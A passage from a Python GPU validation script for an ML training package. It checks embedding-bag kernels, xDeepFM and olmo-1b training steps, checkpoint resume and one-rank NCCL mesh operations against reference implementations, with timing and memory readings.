        return torch.zeros((rows, go.shape[1]), device=dev).index_add_(
            0, ids, src)

    out = hold_close(
        torch, "embedding_bag_backward", cases,
        lambda go, i, rows, _: embedding_bag_backward(go, i, rows),
        lambda go, i, rows, _: embedding_bag_backward_ref(go, i, rows),
        library,
        # the table written once, grad_out and the ids read once
        lambda go, i, rows, _: rows * go.shape[1] * 4 + nbytes(go, i),
        tol, 0, faults, flush=l2_flush(torch, dev), margin=FAULT_MARGIN)
    out["repeated_ids"] = cases[0][1].numel() - int(
        torch.unique(cases[0][1]).numel())
    del cases, laid_out
    free(torch)
    return out


def leaf_names(tree, prefix="") -> list:
    """Dotted names of ``tree``'s leaves, in ``repro_torch.tree.leaves``
    order (a list's items by index)."""
    if isinstance(tree, dict):
        return [n for k in sorted(tree)
                for n in leaf_names(tree[k], f"{prefix}{k}.")]
    if isinstance(tree, (list, tuple)):
        return [n for i, v in enumerate(tree)
                for n in leaf_names(v, f"{prefix}{i}.")]
    return [prefix[:-1]]


def grad_readings(torch, got, want) -> list:
    """Per leaf, ||got - want|| / ||want|| in f32 (0 where both are 0)."""
    from repro_torch.tree import leaves
    out = []
    for g, w in zip(leaves(got), leaves(want), strict=True):
        n = float(w.float().norm())
        d = float((g.float() - w.float()).norm())
        out.append(d / n if n else (0.0 if d == 0 else float("inf")))
    return out


def train_data_path(torch, np, dev, counters, seg, vocab, batch, seq):
    """The sketch-filtered training corpus over phase 4's store: the
    batches whose sketch holds every TRAIN_TERMS term (one engine wave on
    the card), held to the engine's host path, no false negative
    in a sample of the batches it leaves out, and ``LMTokenPipeline`` over
    their lines.  Returns (the pipeline, a summary)."""
    from repro_torch.core.tokenizer import term_query_tokens, tokenize_line
    from repro_torch.data import LMTokenPipeline, SketchFilteredCorpus
    from repro_torch.logstore.compress import decompress_batch

    store = seg["store"]
    reset(counters)
    t0 = time.perf_counter()
    corpus = SketchFilteredCorpus(store, include_terms=TRAIN_TERMS)
    selected = corpus.selected_batches()
    probe_ms = (time.perf_counter() - t0) * 1e3
    launches = read(counters)
    for name in ("sketch_probe", "bitset_reduce_batch", "bitmap_extract"):
        require(launches[name] > 0,
                f"the train_data path never launched {name}")
    want = np.arange(store.n_batches)
    for t in TRAIN_TERMS:
        want = np.intersect1d(want, store.engine.host_query(
            term_query_tokens(t)))
    require(np.array_equal(selected, want),
            "the corpus's batches differ from the engine's host path")
    require(0 < len(selected) < store.n_batches,
            f"the corpus selected {len(selected)} of {store.n_batches}")
    left = np.setdiff1d(np.arange(store.n_batches), selected)
    rng = np.random.default_rng(SEED)
    sample = rng.choice(left, min(N_LEFT_OUT_SAMPLE, len(left)),
                        replace=False)
    toks = [set(term_query_tokens(t)) for t in TRAIN_TERMS]
    for b in sample:
        for line in decompress_batch(store.blobs[int(b)]):
            lt = tokenize_line(line, ngrams=False)
            require(not all(t <= lt for t in toks),
                    f"batch {b}, left out, holds {TRAIN_TERMS}")
    t0 = time.perf_counter()
    pipe = LMTokenPipeline(corpus.lines(), vocab=vocab, batch=batch, seq=seq,
                           seed=SEED)
    pipe_s = time.perf_counter() - t0
    b0 = pipe.batch_at(0)
    require(b0["tokens"].shape == (batch, seq)
            and 0 <= b0["tokens"].min() and b0["tokens"].max() < vocab
            and np.array_equal(b0["labels"][:, :-1], b0["tokens"][:, 1:])
            and np.array_equal(pipe.batch_at(0)["tokens"], b0["tokens"]),
            "the token pipeline's batch is malformed or not repeatable")
    print(f"train_data: {TRAIN_TERMS} selected {len(selected)} of "
          f"{store.n_batches} batches in {probe_ms:.2f} ms (equal to the "
          f"host path; {len(sample)} left-out batches scanned, none holds "
          f"the terms); token pipeline {len(pipe.tokens)} tokens in "
          f"{pipe_s:.2f} s; launches {launches}", flush=True)
    return pipe, dict(selected=len(selected), batches=store.n_batches,
                      probe_ms=probe_ms, pipe_tokens=len(pipe.tokens),
                      pipe_s=pipe_s, launches=launches)


def drop_duplicates(torch):
    """The planted fault of the xDeepFM step: a backward that keeps one of
    the additions into each word (``index_put_`` without accumulation)."""
    def backward(grad_out, idx, rows):
        b, bag = idx.shape
        d = grad_out.shape[1]
        return torch.zeros((rows, d), device=grad_out.device).index_put_(
            (idx.reshape(-1).long(),),
            grad_out[:, None, :].expand(b, bag, d).reshape(b * bag, d))
    return backward


def step_times(torch, np, step, params, opt, batches, counters):
    """One warm step on ``batches[0]``, then one timed step a batch of
    ``batches[1:]`` (host clock to its synchronised end), the launch counts
    read around the timed steps.  The path's peak so far (``path_peak``:
    since the caller's reset, its checks and the warm step included) is
    read, then the peak is reset after the warm step and read after the
    first timed one (``peak``).  Its ``own`` reading is that
    peak less what was allocated before the step besides the step's
    arguments (parameters, optimizer state, batch): what the step itself
    holds at its peak, its arguments included, whatever the script still
    holds from earlier phases (phase 13 holds the dry run's prediction to
    it).  Returns (params, opt, ms, losses, launches, memory readings in
    bytes)."""
    from repro_torch.tree import leaves

    params, opt, m = step(params, opt, batches[0])
    losses = [float(m["loss"])]
    torch.cuda.synchronize()
    path_peak = torch.cuda.max_memory_allocated()
    torch.cuda.reset_peak_memory_stats()
    mem = dict(path_peak=path_peak, before=torch.cuda.memory_allocated(),
               arguments=sum(t.numel() * t.element_size() for t in
                             leaves((params, opt, batches[1]))))
    reset(counters)
    ms = []
    for bt in batches[1:]:
        t0 = time.perf_counter()
        params, opt, m = step(params, opt, bt)
        losses.append(float(m["loss"]))
        ms.append((time.perf_counter() - t0) * 1e3)
        if "peak" not in mem:
            mem["peak"] = torch.cuda.max_memory_allocated()
            mem["own"] = mem["peak"] - (mem["before"] - mem["arguments"])
    return params, opt, ms, losses, read(counters), mem


def xdeepfm_train_path(torch, np, dev, counters, cfg=None,
                       batch_rows=None) -> dict:
    """xDeepFM train_batch at full width (39 x 1M rows, D 10, CIN
    200-200-200, MLP 400-400; B 65,536 as XDEEPFM_MICRO microbatches) under
    AdamW through ``make_train_step``: the wide term through
    ``embedding_bag`` forward and backward every microbatch.  Held first,
    from the init and one batch: a microbatch's loss and gradients through
    the kernels against the plain versions (``embedding_bag_ref``,
    differentiated by autograd) within XDEEPFM_LOSS_RTOL and
    XDEEPFM_GRAD_TOL (per leaf, relative norm), a backward that drops
    duplicates past FAULT_MARGIN x that on ``wide``, and the whole step's
    loss and parameters (within 1e-6 relative plus 2 x the step's lr:
    Adam's first step moves each parameter by at most lr, so a gradient of
    another sign moves it by 2 lr).  Then one warm and TRAIN_STEPS timed
    steps.  ``cfg`` and ``batch_rows`` shrink it when rehearsing."""
    from dataclasses import replace

    from repro_torch.configs import get_arch
    from repro_torch.device import generator
    from repro_torch.kernels.embedding_bag import ops as ebag_ops
    from repro_torch.kernels.embedding_bag.ref import embedding_bag_ref
    from repro_torch.launch import steps
    from repro_torch.models import recsys
    from repro_torch.tree import leaves

    spec = get_arch("xdeepfm")
    spec = replace(spec, config=cfg or spec.config)
    cfg = spec.config
    shape = spec.shape("train_batch")
    b = batch_rows or shape.dims["batch"]
    shape = replace(shape, dims=dict(shape.dims, batch=b),
                    n_microbatches=XDEEPFM_MICRO)
    rng = np.random.default_rng(SEED + 20)

    def batch():
        idx = rng.integers(0, cfg.vocab_per_field, (b, cfg.n_sparse))
        return {"idx": torch.from_numpy(idx.astype(np.int32)).to(dev),
                "label": torch.from_numpy(
                    rng.integers(0, 2, b).astype(np.float32)).to(dev)}

    batches = [batch() for _ in range(1 + TRAIN_STEPS)]
    torch.cuda.reset_peak_memory_stats()
    t0 = time.perf_counter()
    params = steps.family_init(spec)(generator(SEED, dev))
    opt = steps._init_opt(spec, steps.make_optimizer(spec)[0], params)
    torch.cuda.synchronize()
    init_s = time.perf_counter() - t0
    step = steps.make_train_step(spec, shape)
    loss_fn = steps.family_loss(spec)
    plain = functools.partial(swapped, recsys, "embedding_bag_sum",
                              embedding_bag_ref)
    first = batches[0]
    offsets = torch.arange(cfg.n_sparse, device=dev) * cfg.vocab_per_field
    repeated = first["idx"].numel() - int(torch.unique(
        first["idx"] + offsets).numel())

    # ------------------------------------- a microbatch's gradients, held
    t0 = time.perf_counter()
    mb = {k: v[:b // XDEEPFM_MICRO] for k, v in first.items()}
    before = read(counters)
    lk, gk = steps.value_and_grad(loss_fn, params, mb)
    torch.cuda.synchronize()
    after = read(counters)
    require(after["embedding_bag"] == before["embedding_bag"] + 1
            and after["embedding_bag_backward"]
            == before["embedding_bag_backward"] + 1,
            "the xDeepFM gradient did not launch embedding_bag forward and "
            "backward once each")
    with plain():
        lp, gp = steps.value_and_grad(loss_fn, params, mb)
    require(read(counters) == after, "the plain run launched a kernel")
    with swapped(ebag_ops, "embedding_bag_backward", drop_duplicates(torch)):
        _, gf = steps.value_and_grad(loss_fn, params, mb)
    require(read(counters)["embedding_bag_backward"]
            == after["embedding_bag_backward"],
            "the faulty run launched the backward kernel")
    loss_err = abs(float(lk) - float(lp)) / abs(float(lp))
    grad_err = grad_readings(torch, gk, gp)
    names = leaf_names(params)
    wide = names.index("wide")
    fault = grad_readings(torch, gf, gp)[wide]
    del gk, gp, gf
    require(bool(torch.isfinite(lk)) and loss_err <= XDEEPFM_LOSS_RTOL,
            f"xDeepFM loss through the kernels differs from the plain "
            f"versions by {loss_err:.3g} (limit {XDEEPFM_LOSS_RTOL})")
    require(max(grad_err) <= XDEEPFM_GRAD_TOL,
            f"xDeepFM gradients through the kernels differ from the plain "
            f"versions: {dict(zip(names, grad_err))} (limit "
            f"{XDEEPFM_GRAD_TOL})")
    require(fault > FAULT_MARGIN * XDEEPFM_GRAD_TOL,
            f"a backward that drops duplicates moves wide's gradient by "
            f"{fault:.3g} only")

    # ------------------------------------------------ one step, held
    pk, _, mk = step(params, opt, first)
    with plain():
        pp, _, mp = step(params, opt, first)
    lr = float(mk["lr"])
    step_loss_err = abs(float(mk["loss"]) - float(mp["loss"])) \
        / abs(float(mp["loss"]))
    param_err = max(float((a - w).abs().max()) / (1e-6 * float(w.abs().max())
                                                  + 2 * lr)
                    for a, w in zip(leaves(pk), leaves(pp)))
    del pk, pp
    require(step_loss_err <= XDEEPFM_LOSS_RTOL and param_err <= 1,
            f"the xDeepFM step through the kernels differs from the plain "
            f"one: loss {step_loss_err:.3g}, parameters {param_err:.3g} of "
            f"the limit")
    free(torch)

    check_s = time.perf_counter() - t0

    # ------------------------------------------------------ timed steps
    t0 = time.perf_counter()
    params, opt, ms, losses, launches, step_mem = step_times(
        torch, np, step, params, opt, batches, counters)
    steps_s = time.perf_counter() - t0
    for name in ("embedding_bag", "embedding_bag_backward"):
        require(launches[name] == TRAIN_STEPS * XDEEPFM_MICRO,
                f"xDeepFM's timed steps launched {name} "
                f"{launches[name]} times, not once a microbatch")
    require(all(np.isfinite(losses)), "xDeepFM's loss is not finite")
    top = []
    busy = device_busy(torch, lambda: step(params, opt, batches[1]), top=top)
    # the path's peak since its init, as before the reset in step_times
    peak = max(step_mem["path_peak"], torch.cuda.max_memory_allocated()) / 1e9
    p50, p99 = percentiles(np, ms)
    out = dict(rows=cfg.total_vocab, embed_dim=cfg.embed_dim, batch=b,
               microbatches=XDEEPFM_MICRO, steps=TRAIN_STEPS, init_s=init_s,
               check_s=check_s, steps_s=steps_s,
               step_ms_p50=p50, step_ms_p99=p99, rows_per_s=b / p50 * 1e3,
               peak_gb=peak, step_memory=step_mem, losses=losses,
               repeated_ids=repeated,
               loss_rel_err=loss_err, grad_rel_err=dict(zip(names, grad_err)),
               wide_fault=fault, step_loss_rel_err=step_loss_err,
               step_param_reading=param_err, profiled_ms=busy[0],
               busy_ms=busy[1], top_kernels=top[:TOP_KERNELS],
               launches=launches)
    print(f"xdeepfm train_batch: {cfg.total_vocab} rows x {cfg.embed_dim}, "
          f"B {b} as {XDEEPFM_MICRO} microbatches ({repeated} repeated ids "
          f"in the first batch); kernels against plain: loss "
          f"{loss_err:.3g} (limit {XDEEPFM_LOSS_RTOL}), gradients <= "
          f"{max(grad_err):.3g} (wide {grad_err[wide]:.3g}; limit "
          f"{XDEEPFM_GRAD_TOL}), duplicates dropped {fault:.3g} on wide; "
          f"one step: loss {step_loss_err:.3g}, parameters {param_err:.3g} "
          f"of the limit; {TRAIN_STEPS} steps p50 {p50:.1f} ms p99 "
          f"{p99:.1f} ms ({b / p50 * 1e3:,.0f} rows/s), losses "
          f"{[round(x, 5) for x in losses]}, peak {peak:.2f} GB (one step "
          f"{step_mem['own'] / 1e9:.2f} GB its own, "
          f"{(step_mem['before'] - step_mem['arguments']) / 1e9:.2f} GB held "
          f"beside it); device busy "
          f"per step {busy_text(*busy)} ({top_text(top)}); init "
          f"{init_s:.1f} s, checks {check_s:.1f} s, warm and timed steps "
          f"{steps_s:.1f} s; launches {launches}", flush=True)
    del params, opt, batches
    free(torch)
    return out


def lm_train_path(torch, np, dev, counters, pipe, cfg=None) -> dict:
    """olmo-1b train_4k at full width (16 layers, d 2048, bf16, tied
    embeddings; remat a layer; AdamW, one microbatch as its spec), its
    batch cut to ``pipe.batch`` x ``pipe.seq``, on batches of the
    sketch-filtered corpus.  Held first: the bf16 loss and gradients of
    ``pipe.batch_at(0)`` against the same step in f32 on the card (loss
    relative error within LM_LOSS_TOL, each leaf's relative gradient-norm
    error within LM_GRAD_TOL), and the loss with the labels left unshifted
    past FAULT_MARGIN x LM_LOSS_TOL.  Then one warm and LM_TRAIN_STEPS
    timed steps on that batch, its loss required to fall.  No kernel lies
    on this path (training attends with ``blockwise_attention``, as the
    JAX package does).  ``cfg`` shrinks it when rehearsing."""
    from dataclasses import replace

    from repro_torch.configs import get_arch
    from repro_torch.device import generator
    from repro_torch.launch import steps
    from repro_torch.tree import leaves

    spec = get_arch("olmo-1b")
    spec = replace(spec, config=cfg or spec.config)
    cfg = spec.config
    shape = replace(spec.shape("train_4k"),
                    dims=dict(seq=pipe.seq, batch=pipe.batch))
    fixed = {k: torch.from_numpy(v).to(dev)
             for k, v in pipe.batch_at(0).items()}
    torch.cuda.reset_peak_memory_stats()
    t0 = time.perf_counter()
    params = steps.family_init(spec)(generator(SEED, dev))
    torch.cuda.synchronize()
    init_s = time.perf_counter() - t0
    n_params = sum(p.numel() for p in leaves(params))

    # ------------------------------------------ bf16 against f32, held
    t0 = time.perf_counter()
    loss_fn = steps.family_loss(spec)
    lb, gb = steps.value_and_grad(loss_fn, params, fixed)
    with torch.no_grad():
        unshifted = float(loss_fn(params, dict(fixed,
                                               labels=fixed["tokens"])))
    p32 = cast_tree(params, lambda t: t.float())
    spec32 = replace(spec, config=replace(cfg, dtype="float32"))
    l32, g32 = steps.value_and_grad(steps.family_loss(spec32), p32, fixed)
    loss_err = abs(float(lb) - float(l32)) / abs(float(l32))
    fault = abs(unshifted - float(l32)) / abs(float(l32))
    grad_err = dict(zip(leaf_names(params), grad_readings(torch, gb, g32)))
    del p32, g32, gb
    free(torch)
    print(f"olmo-1b bf16 against f32, gradient norms by leaf: "
          + ", ".join(f"{k} {v:.3g}" for k, v in grad_err.items()),
          flush=True)
    require(bool(torch.isfinite(lb)) and loss_err <= LM_LOSS_TOL,
            f"olmo-1b's bf16 loss differs from f32 by {loss_err:.3g} "
            f"(limit {LM_LOSS_TOL})")
    for name, err in grad_err.items():
        limit = LM_EMBED_GRAD_TOL if name == "embed" else LM_GRAD_TOL
        require(err <= limit, f"olmo-1b's bf16 gradient of {name} differs "
                f"from f32 by {err:.3g} (limit {limit})")
    require(fault > FAULT_MARGIN * LM_LOSS_TOL,
            f"olmo-1b's loss with unshifted labels moves by {fault:.3g} only")

    check_s = time.perf_counter() - t0

    # ------------------------------------------------------ timed steps
    t0 = time.perf_counter()
    opt = steps._init_opt(spec, steps.make_optimizer(spec)[0], params)
    step = steps.make_train_step(spec, shape)
    params, opt, ms, losses, launches, step_mem = step_times(
        torch, np, step, params, opt, [fixed] * (1 + LM_TRAIN_STEPS),
        counters)
    require(all(np.isfinite(losses)) and losses[-1] < losses[0],
            f"olmo-1b's loss on a repeated batch did not fall: {losses}")
    steps_s = time.perf_counter() - t0
    top = []
    busy = device_busy(torch, lambda: step(params, opt, fixed), top=top)
    # the path's peak since its init, as before the reset in step_times
    peak = max(step_mem["path_peak"], torch.cuda.max_memory_allocated()) / 1e9
    p50, p99 = percentiles(np, ms)
    tokens = pipe.batch * pipe.seq
    out = dict(params=n_params, batch=pipe.batch, seq=pipe.seq,
               steps=LM_TRAIN_STEPS, init_s=init_s, check_s=check_s,
               steps_s=steps_s, step_s_p50=p50 / 1e3,
               step_s_p99=p99 / 1e3, tokens_per_s=tokens / p50 * 1e3,
               peak_gb=peak, step_memory=step_mem, losses=losses,
               loss_rel_err=loss_err,
               grad_rel_err=grad_err, unshifted_fault=fault,
               profiled_ms=busy[0], busy_ms=busy[1],
               top_kernels=top[:TOP_KERNELS], launches=launches)
    print(f"olmo-1b train_4k: {n_params / 1e9:.3f}B params bf16, batch "
          f"{pipe.batch} x {pipe.seq}; bf16 against f32: loss "
          f"{loss_err:.3g} (limit {LM_LOSS_TOL}), gradient norms: embed "
          f"{grad_err['embed']:.3g} (limit {LM_EMBED_GRAD_TOL}), the rest <= "
          f"{max(v for k, v in grad_err.items() if k != 'embed'):.3g} "
          f"(limit {LM_GRAD_TOL}), labels unshifted "
          f"{fault:.3g}; {LM_TRAIN_STEPS} steps p50 {p50 / 1e3:.3f} s p99 "
          f"{p99 / 1e3:.3f} s ({tokens / p50 * 1e3:,.0f} tokens/s), losses "
          f"{[round(x, 4) for x in losses]}, peak {peak:.2f} GB (one step "
          f"{step_mem['own'] / 1e9:.2f} GB its own, "
          f"{(step_mem['before'] - step_mem['arguments']) / 1e9:.2f} GB held "
          f"beside it); device busy "
          f"per step {busy_text(*busy)} ({top_text(top)}); init "
          f"{init_s:.1f} s, checks {check_s:.1f} s, warm and timed steps "
          f"{steps_s:.1f} s; launches {launches}", flush=True)
    del params, opt
    free(torch)
    return out


def train_resume_path(torch, np, dev, counters, keep=None) -> dict:
    """``launch/train.py --arch xdeepfm`` at its smoke config on the card:
    RESUME_STEPS[0] steps with a checkpoint every RESUME_CKPT_EVERY, then
    ``--resume`` to RESUME_STEPS[1], against one straight run of
    RESUME_STEPS[1] steps; the resumed losses within RESUME_RTOL of the
    straight ones (the backward's atomics order the wide term's sums
    differently from run to run).  Its checkpoints live under ``build/``
    and are removed; the resumed run's directory is first copied to
    ``keep`` (phase 12 restores its newest checkpoint)."""
    from repro_torch.launch import train

    first_n, total = RESUME_STEPS
    tmp = Path(tempfile.mkdtemp(prefix="train-", dir=ROOT / "build"))
    common = ["--arch", "xdeepfm", "--device", str(dev), "--log-every", "100"]
    try:
        reset(counters)
        t0 = time.perf_counter()
        straight = train.run(common + ["--steps", str(total), "--ckpt-dir",
                                       str(tmp / "straight")])
        first = train.run(common + ["--steps", str(first_n), "--ckpt-every",
                                    str(RESUME_CKPT_EVERY), "--ckpt-dir",
                                    str(tmp / "resumed")])
        saved = sorted(os.listdir(tmp / "resumed"))
        resumed = train.run(common + ["--steps", str(total), "--resume",
                                      "--ckpt-dir", str(tmp / "resumed")])
        wall_s = time.perf_counter() - t0
        launches = read(counters)
        if keep is not None:
            shutil.copytree(tmp / "resumed", keep)
    finally:
        shutil.rmtree(tmp, ignore_errors=True)
    require(straight["rc"] == first["rc"] == resumed["rc"] == 0,
            "a launch/train.py run failed")
    want = [f"step_{s:010d}.npz" for s in range(RESUME_CKPT_EVERY, first_n,
                                                   RESUME_CKPT_EVERY)]
    require(saved == sorted(want + [f"step_{first_n - 1:010d}.npz",
                                    "MANIFEST.json"]),
            f"launch/train.py's checkpoints are {saved}")
    require(resumed["start_step"] == first_n
            and sorted(resumed["losses"]) == list(range(first_n, total)),
            "the resumed run did not start after the last checkpoint")
    err = max(abs(resumed["losses"][s] - straight["losses"][s])
              / abs(straight["losses"][s]) for s in range(first_n, total))
    require(err <= RESUME_RTOL,
            f"the resumed run's losses differ from the straight run's by "
            f"{err:.3g} (limit {RESUME_RTOL})")
    for name in ("embedding_bag", "embedding_bag_backward"):
        require(launches[name] > 0,
                f"the resumed training path never launched {name}")
    print(f"launch/train.py (xdeepfm smoke): {total} straight steps, {first_n} "
          f"then --resume to {total}: losses of steps {first_n}-{total - 1} "
          f"within {err:.3g} of the straight run (limit {RESUME_RTOL}); "
          f"checkpoints {saved}; {wall_s:.1f} s; launches {launches}",
          flush=True)
    return dict(steps=total, resumed_from=first_n, loss_rel_err=err,
                losses=straight["losses"], wall_s=wall_s, launches=launches)


# --------------------------------------------------------------- phase 12
def mesh_group(torch):
    """Phase 12's one-rank NCCL group (a ``HashStore``: nothing leaves the
    process) and its (1, 1) ("data", "model") mesh.  NCCL puts no two
    ranks of one communicator on one device, so groups of more than one
    rank are the CPU tests' (``gloo``, 4 ranks); here the collectives,
    placements and per-rank bodies run on the card through NCCL itself.
    The group is set up before phase 8, whose arctic-480b run holds check
    (d), and destroyed after phase 12."""
    import torch.distributed as dist

    from repro_torch.launch.mesh import make_host_mesh

    # the card bound before the group, so that the communicator is made
    # at once on it (its set-up time is then the group's)
    card = torch.device("cuda", torch.cuda.current_device())
    torch.cuda.set_device(card)
    dist.init_process_group("nccl", store=dist.HashStore(), rank=0,
                            world_size=1, device_id=card)
    require(dist.get_backend() == "nccl",
            f"phase 12's group runs {dist.get_backend()}, not nccl")
    return make_host_mesh("cuda")


def mesh_fields(cfg):
    """Every mesh field of ``LMConfig`` on the one-rank mesh: activations
    over ("data", "model"), sequence-parallel attention, the MoE expert-
    parallel over "model" (expert_parallel 1; no FSDP axis: its all-gather
    would copy arctic's 26.8 GB of expert weights a layer)."""
    from dataclasses import replace

    return replace(cfg, act_batch_axes=("data",), act_model_axis="model",
                   attn_seq_parallel=True, moe_batch_axes=("data",),
                   moe_expert_axis="model", moe_expert_parallel=1)


def mesh_prefill(torch, cfg, params, prompts, mesh, want, plain_s) -> dict:
    """Check (d): phase 8's prefill with every mesh field set, over the
    one-rank mesh, against phase 8's prefill logits, bit for bit."""
    from repro_torch.launch.mesh import use_mesh
    from repro_torch.models.transformer import prefill

    with torch.inference_mode(), use_mesh(mesh):
        t0 = time.perf_counter()
        _, got = prefill(mesh_fields(cfg), params, prompts)
        torch.cuda.synchronize()
        mesh_s = time.perf_counter() - t0
    diff = float((got.float() - want.float()).abs().max())
    require(torch.equal(got, want),
            f"{cfg.name}'s prefill with the mesh fields differs from phase "
            f"8's by {diff}")
    print(f"mesh (d) {cfg.name} prefill {tuple(prompts.shape)} with every "
          f"mesh field: logits equal phase 8's bit for bit; {mesh_s:.3f} s "
          f"(phase 8's {plain_s:.3f} s)", flush=True)
    return dict(max_abs_err=diff, limit=0.0, ms=mesh_s * 1e3,
                plain_ms=plain_s * 1e3)


def synced_ms(torch, fn):
    """(result, ms) of one ``fn()`` on the host's clock to its synchronised
    end."""
    torch.cuda.synchronize()
    t0 = time.perf_counter()
    res = fn()
    torch.cuda.synchronize()
    return res, (time.perf_counter() - t0) * 1e3


def mesh_moe(torch, dev, mesh, dtype) -> dict:
    """Check (a) in ``dtype``: ``moe_ffn_sharded`` on the one-rank mesh
    against ``moe_ffn`` (bit for bit), and the per-rank body at one
    logical rank an expert, its partials summed in ``dtype`` as the
    combine sums them, against ``moe_ffn``.

    The bound in bf16: each token's output is its two routed experts'
    weighted outputs c1 + c2.  ``moe_ffn`` sums them in f32 and rounds
    once; the combine rounds each partial to bf16 (exact: c1 and c2 are
    bf16 products) and sums in bf16.  So |diff| <= 2^-8 (|c1| + |c2|) +
    2^-8 |out|: each term's and each side's last rounding, half a bf16
    ulp (2^-8 relative) apiece.  In f32 the partials are summed in f32:
    max |diff| <= MESH_F32_RTOL x max |out|."""
    from repro_torch.models.moe import (capacity_of, moe_ffn,
                                        moe_ffn_sharded, moe_local)

    t, d, e, f = MESH_MOE
    gen = torch.Generator(device=dev).manual_seed(SEED)

    def normal(*shape, fan_in):
        return (torch.randn(shape, generator=gen, device=dev)
                * fan_in ** -0.5).to(dtype)

    x = normal(t, d, fan_in=1)
    w = {"router": normal(d, e, fan_in=d), "w_gate": normal(e, d, f, fan_in=d),
         "w_up": normal(e, d, f, fan_in=d), "w_down": normal(e, f, d, fan_in=f)}
    kw = dict(n_experts=e, top_k=2, capacity_factor=1.25)
    with torch.inference_mode():
        (want, aux_want), plain_ms = synced_ms(
            torch, lambda: moe_ffn(x, w, **kw))
        (got, aux), ms = synced_ms(
            torch, lambda: moe_ffn_sharded(x, w, mesh=mesh, **kw))
        require(torch.equal(got, want) and torch.equal(aux, aux_want),
                f"{dtype} moe_ffn_sharded on the one-rank mesh differs from "
                f"moe_ffn by {float((got - want).abs().max())}")

        # one token shard: the capacity that moe_ffn and the sharded
        # dispatch both take at T tokens
        cap = capacity_of(t, e, 2, 1.25)

        def per_rank():
            parts = [moe_local(x, w["router"], *(w[k][i:i + 1] for k in
                                                 ("w_gate", "w_up", "w_down")),
                               expert_index=i, n_experts=e, top_k=2,
                               capacity=cap)[0]
                     for i in range(MESH_RANKS)]
            total = parts[0]
            for p in parts[1:]:
                total = total + p
            return total, sum(p.float().abs() for p in parts)
        (total, terms), rank_ms = synced_ms(torch, per_rank)
    diff = (total.float() - want.float()).abs()
    if dtype == torch.bfloat16:
        bound = 2 ** -8 * (terms + want.float().abs())
        ratio = float((diff / bound.clamp_min(1e-30)).max())
        ok, limit = bool((diff <= bound).all()), "2^-8 (|c1| + |c2| + |out|)"
    else:
        ratio = float(diff.max()) / (MESH_F32_RTOL * float(want.abs().max()))
        ok, limit = ratio <= 1.0, f"{MESH_F32_RTOL} max |out|"
    require(ok, f"{dtype} MoE over {MESH_RANKS} logical expert ranks differs "
            f"from moe_ffn past {limit} ({ratio} of it)")
    name = str(dtype).replace("torch.", "")
    print(f"mesh (a) phi3.5-moe layer {name} T {t} D {d} E {e} F {f}: "
          f"sharded on the one-rank mesh == moe_ffn bit for bit "
          f"({ms:.1f} ms, moe_ffn {plain_ms:.1f} ms); {MESH_RANKS} logical "
          f"expert ranks summed in {name}: max |diff| "
          f"{float(diff.max()):.4g}, {ratio:.3g} of the limit {limit} "
          f"({rank_ms:.1f} ms)", flush=True)
    return dict(max_abs_err=float(diff.max()), limit=limit,
                limit_share=ratio, ms=ms, plain_ms=plain_ms,
                per_rank_ms=rank_ms)


def mesh_attention(torch, dev, mesh) -> dict:
    """Check (b): ``seq_parallel_attention`` on the one-rank mesh against
    ``blockwise_attention`` (bit for bit), and its query rows over
    MESH_RANKS logical ranks (``blockwise_attention`` on each S /
    MESH_RANKS rows with the rank's causal offset), concatenated, against
    it.  A rank's 256 rows run as one query chunk where the unsharded call
    runs 512, so its f32 products may be summed in another order: bit for
    bit where they are not, else within one bf16 rounding of the output
    (2^-8 |out| + 2^-8 |got|)."""
    from repro_torch.models.attention import (blockwise_attention,
                                              seq_parallel_attention)

    b, s, hq, hkv, dh = MESH_ATTN
    gen = torch.Generator(device=dev).manual_seed(SEED)
    q, k, v = (torch.randn((b, s, h, dh), generator=gen, device=dev)
               .to(torch.bfloat16) for h in (hq, hkv, hkv))
    rows = s // MESH_RANKS
    with torch.inference_mode():
        want, plain_ms = synced_ms(torch, lambda: blockwise_attention(q, k, v))
        got, ms = synced_ms(torch, lambda: seq_parallel_attention(
            q, k, v, batch_axes=("data",), model_axis="model", mesh=mesh))
        require(torch.equal(got, want), "seq_parallel_attention on the "
                "one-rank mesh differs from blockwise_attention")
        ranks, rank_ms = synced_ms(torch, lambda: torch.cat([
            blockwise_attention(q[:, i * rows:(i + 1) * rows], k, v,
                                q_offset=i * rows)
            for i in range(MESH_RANKS)], 1))
    diff = (ranks.float() - want.float()).abs()
    bound = 2 ** -8 * (want.float().abs() + ranks.float().abs())
    exact = bool(torch.equal(ranks, want))
    require(bool((diff <= bound).all()),
            f"seq-parallel attention over {MESH_RANKS} logical ranks differs "
            f"from blockwise_attention past one bf16 rounding")
    print(f"mesh (b) arctic-480b attention core B {b} S {s} {hq}/{hkv} heads: "
          f"seq-parallel on the one-rank mesh == blockwise bit for bit "
          f"({ms:.1f} ms, blockwise {plain_ms:.1f} ms); over {MESH_RANKS} "
          f"logical ranks: {'bit for bit' if exact else 'max |diff| ' + format(float(diff.max()), '.4g')} "
          f"({rank_ms:.1f} ms)", flush=True)
    return dict(max_abs_err=float(diff.max()), bit_for_bit=exact,
                limit="2^-8 (|out| + |got|)", ms=ms, plain_ms=plain_ms,
                per_rank_ms=rank_ms)


def mesh_psum(torch, dev, mesh) -> dict:
    """Check (c): ``compressed_psum`` over the NCCL group: out + new error
    gives back the gradient (``tests/test_runtime.py``'s check)."""
    from repro_torch.launch.mesh import shard_map
    from repro_torch.launch.shardings import P
    from repro_torch.optim.compress import compressed_psum

    gen = torch.Generator(device=dev).manual_seed(SEED)
    g = torch.randn(MESH_PSUM, generator=gen, device=dev)
    fn = shard_map(lambda g, e: compressed_psum(g, e, "data", mesh=mesh),
                   mesh=mesh, in_specs=(P(), P()), out_specs=(P(), P()))
    with torch.inference_mode():
        (out, err), ms = synced_ms(torch, lambda: fn(g, torch.zeros_like(g)))
    diff = float((out + err - g).abs().max())
    require(diff <= MESH_PSUM_ATOL, f"compressed_psum's out + error differs "
            f"from the gradient by {diff}")
    print(f"mesh (c) compressed_psum {MESH_PSUM} f32 over NCCL: max |out + "
          f"err - g| {diff:.3g} (limit {MESH_PSUM_ATOL}); {ms:.1f} ms",
          flush=True)
    return dict(max_abs_err=diff, limit=MESH_PSUM_ATOL, ms=ms)


def mesh_restore(torch, dev, mesh, ckpt_dir) -> dict:
    """Check (e): the newest checkpoint of phase 11's ``launch/train.py
    --arch xdeepfm`` run, restored with ``shardings=`` onto the card's
    mesh (``recsys_param_spec`` placements), against a plain restore, bit
    for bit."""
    from torch.distributed.tensor import DTensor

    from repro_torch.configs import get_arch
    from repro_torch.device import generator
    from repro_torch.launch.checkpoint import CheckpointManager
